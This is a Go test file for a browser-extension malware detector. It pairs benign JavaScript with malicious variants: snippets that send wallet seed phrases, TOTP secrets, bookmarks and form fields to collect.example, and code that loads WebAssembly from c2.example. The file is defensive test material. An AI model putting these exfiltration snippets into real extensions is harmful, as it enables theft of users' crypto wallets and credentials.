package flow

import (
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// Each row of what honest tools do stands beside what a thief would do in its place.
func TestFlowsOfHonestTools(t *testing.T) {
	const vault = `(async () => { const kept = {activeAccount: self.account, kept: [document.querySelector("#mnemonic").value]};
		const box = await crypto.subtle.encrypt(how, key, new TextEncoder().encode(JSON.stringify(kept)));
		chrome.storage.local.set({box}); chrome.storage.local.get("box", async ({box}) => `
	const send = `fetch("https://collect.example/", {method: "POST", body: `
	for _, c := range []flowCase{
		{"module that is given nothing", behavior.Background, `fetch("https://c2.example/m.wasm").then(WebAssembly.instantiateStreaming)`, nil},
		{"module of an address that is given", behavior.Background, `function start(path, imports) { return WebAssembly.instantiateStreaming(fetch(path, {credentials: "same-origin"}), imports) } start(self.path, {env: {now: Date.now}})`, nil},
		{"module of a server", behavior.Background, `WebAssembly.instantiateStreaming(fetch("https://c2.example/m.wasm"), {env: {send: (t) => fetch(t)}})`, []string{"network(c2.example) > eval"}},
		{"attribute in a page of the extension", behavior.Popup, `fetch("https://c2.example/").then((r) => r.json()).then((j) => { for (const k of self.names) document.body.setAttribute(k, j[k]) })`, nil},
		{"attribute in a site's page", behavior.Content, `fetch("https://c2.example/").then((r) => r.json()).then((j) => { for (const k of self.names) document.body.setAttribute(k, j[k]) })`, []string{"network(c2.example) > on_attribute"}},
		{"coins of the holder of a key", behavior.Background, `async function pay(text, to) { const keys = await self.vault.open(text.mnemonic); return self.chain.transfer(keys, to, 5) }`, nil},
		{"coins to what is made of a key", behavior.Background, `async function pay(text, me) { const to = await self.words.encode(text.mnemonic); return self.chain.transfer(me, to, 5) }`, []string{"seed_input(mnemonic) > wallet_request"}},
		{"what a password opens", behavior.Popup, `document.querySelector("#password").onchange = async (e) => { const p = document.querySelector("#password").value; const key = await crypto.subtle.importKey("raw", p, "AES-GCM", false, ["decrypt"]); const t = await crypto.subtle.decrypt({name: "AES-GCM"}, key, self.box); ` + send + `t}) }`, []string{"decrypted > fetch > collect.example"}},
		{"address of a key", behavior.Popup, `const made = self.library.fromMnemonic(document.querySelector("#mnemonic").value); ` + send + `made.address})`, nil},
		{"the words under that name", behavior.Popup, `const made = {address: document.querySelector("#mnemonic").value}; const copy = JSON.parse(JSON.stringify(made)); ` + send + `copy.address})`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"signature by a library that is elsewhere", behavior.Popup, `import {schnorr} from "@noble/curves/secp256k1"; const key = document.querySelector("#mnemonic").value; ` + send + `schnorr.sign(self.hash, key)})`, nil},
		{"transaction that is signed elsewhere", behavior.Popup, `const key = document.querySelector("#mnemonic").value; (async () => { const tx = await self.library.signTransaction({to: 1}, key); ` + send + `JSON.stringify({tx})}) })()`, nil},
		{"key in what is signed", behavior.Popup, `const key = document.querySelector("#mnemonic").value; ` + send + `self.library.sign(key + 1, key)})`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"words to sign in with", behavior.Popup, `const key = document.querySelector("#mnemonic").value; ` + send + `self.library.signInWith(key)})`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"address in what is kept", behavior.Popup, `chrome.storage.local.set({w: {...self.library.make(document.querySelector("#mnemonic").value), at: 1}}); chrome.storage.local.get("w", ({w}) => { ` + send + `w.address}) })`, nil},
		{"all of what is kept", behavior.Popup, `chrome.storage.local.set({w: {...self.library.make(document.querySelector("#mnemonic").value), at: 1}}); chrome.storage.local.get("w", ({w}) => { ` + send + `JSON.stringify(w)}) })`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"address of a server that is typed", behavior.Popup, `document.querySelector("#go").onclick = () => fetch(document.querySelector("#totp-secret").value)`, nil},
		{"what is typed as part of an address", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#totp-secret").value)`, []string{"otp_field(#totp-secret) > fetch > collect.example"}},
		{"class of a library", behavior.Popup, `const sdk = {PrivateKey: self.made()}; ` + send + `sdk.PrivateKey.random()})`, nil},
		{"what the words are to be called", behavior.Popup, `document.querySelector("#go").onclick = () => fetch("https://collect.example/" + document.querySelector("#seed-label").value)`, []string{"form_data(#seed-label) > fetch > collect.example"}},
		{"address in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.activeAccount}) }) })()`, nil},
		{"words in a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `v.kept[0]}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"words in one vault of many", behavior.Popup, `const seal = (x) => crypto.subtle.encrypt(how, key, new TextEncoder().encode(JSON.stringify(x)));
			(async () => { for (const put of [` + strings.Repeat(`() => seal({n: 1}), `, 12) + `]) await put();
			const box = await seal({kept: [document.querySelector("#mnemonic").value]});
			const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `JSON.stringify(v)}) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"all of a vault", behavior.Popup, vault + `{ const v = JSON.parse(new TextDecoder().decode(await crypto.subtle.decrypt(how, key, box))); ` + send + `JSON.stringify(v)}) }) })()`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"whether one address is a bookmark", behavior.Background, `chrome.bookmarks.search({url: self.address}, (l) => ` + send + `l[0].url}))`, nil},
		{"bookmarks", behavior.Background, `chrome.bookmarks.search({}, (l) => ` + send + `l[0].url}))`, []string{"history > fetch > collect.example"}},
		{"field of a server's form", behavior.Background, `fetch("https://archive.example/").then((r) => r.text()).then((t) => { const d = new DOMParser().parseFromString(t, "text/html"); ` + send + `d.querySelector("input[name=id]").value}) })`, nil},
		{"field of a site's form", behavior.Content, send + `document.querySelector("input[name=id]").value})`, []string{"form_data(input[name=id]) > fetch > collect.example"}},
	} {
		t.Run(c.name, c.run)
	}
}
